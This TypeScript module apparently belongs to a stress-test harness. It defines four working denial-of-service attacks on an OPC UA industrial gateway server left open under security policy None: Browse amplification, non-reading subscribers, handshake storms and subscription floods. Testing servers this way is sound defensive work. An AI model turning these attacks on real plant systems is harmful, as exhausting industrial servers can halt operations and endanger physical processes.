import { setTimeout as sleep } from 'node:timers/promises';
import { HostileClient } from './hostile-client.js';
import type { NodeName } from './ua-bytes.js';
import { browse, createMonitoredItems, createSubscription, publish, read } from './ua-requests.js';

/** An OPC UA server of the gateway whose plant lets anybody in over policy None. */
export interface AttackedServer {
  readonly port: number;
  /** With many tags in it. */
  readonly folder: NodeName;
  /** That change. */
  readonly tags: readonly NodeName[];
}

/** Goes on until `signal` is aborted, also when the server is gone meanwhile. `did` is called for each blow. */
export type Attack = (server: AttackedServer, did: () => void, signal: AbortSignal) => Promise<void>;

/** So many times the same folder in one Browse: a request of 240 kB. */
const browsedTimes = 6_000;

const deafClients = 20;
const stormingClients = 20;
const subscribers = 20;
const subscriptionsEach = 100;
const itemsOfSubscription = 20;

/** More requests than the server's side takes are not made: the attacker's own memory is not what is tried. */
const maxUnsentBytes = 1_000_000;

export const attacks = {
  /** One small request that asks for gigabytes, again and again. */
  async browse(server, did, signal) {
    await again(signal, async () => {
      using client = await HostileClient.withSession(server.port);
      did();
      await client.ask(browse(server.folder, browsedTimes));
    });
  },

  /** Clients that subscribe to much, ask for more and read nothing of it. */
  async deaf(server, did, signal) {
    const request = read(server.tags.slice(0, 2_000));
    await inParallel(deafClients, signal, async () => {
      using client = await HostileClient.withSession(server.port);
      await subscribe(client, server.tags.slice(0, 5_000), 100);
      for (let i = 0; i < 50; i += 1) client.send(publish());
      client.stopReading();
      for (; client.isConnected && !signal.aborted; await sleep(20)) {
        if (client.unsentBytes > maxUnsentBytes) continue;
        client.send(request);
        did();
      }
    });
  },

  /** Connections that are opened as far as a channel and dropped. */
  async handshakes({ port }, did, signal) {
    await inParallel(stormingClients, signal, async () => {
      using _client = await HostileClient.connect(port);
      did();
    });
  },

  /** Two thousand subscriptions, at the shortest interval, all read. */
  async subscriptions(server, did, signal) {
    await inParallel(subscribers, signal, async (index) => {
      using client = await HostileClient.withSession(server.port);
      const tags = server.tags.slice(itemsOfSubscription * index).slice(0, itemsOfSubscription);
      for (let i = 0; i < subscriptionsEach; i += 1) {
        // Beyond its limits the server says no.
        await subscribe(client, tags, 10).catch(() => undefined);
        did();
      }
      client.onAnswer = () => client.send(publish());
      for (let i = 0; i < subscriptionsEach; i += 1) client.send(publish());
      while (client.isConnected && !signal.aborted) await sleep(50);
    });
  },
} satisfies Record<string, Attack>;

async function subscribe(client: HostileClient, tags: readonly NodeName[], queueSize: number): Promise<void> {
  const subscriptionId = HostileClient.firstNumber(await client.ask(createSubscription(0)));
  await client.ask(createMonitoredItems(subscriptionId, tags, queueSize));
}

export async function inParallel(
  clients: number,
  signal: AbortSignal,
  blow: (index: number) => Promise<void>,
): Promise<void> {
  await Promise.all(Array.from({ length: clients }, async (_, index) => await again(signal, () => blow(index))));
}

/** A server that is gone is tried again soon. */
export async function again(signal: AbortSignal, blow: () => Promise<void>): Promise<void> {
  while (!signal.aborted) await blow().catch(async () => await sleep(50));
}
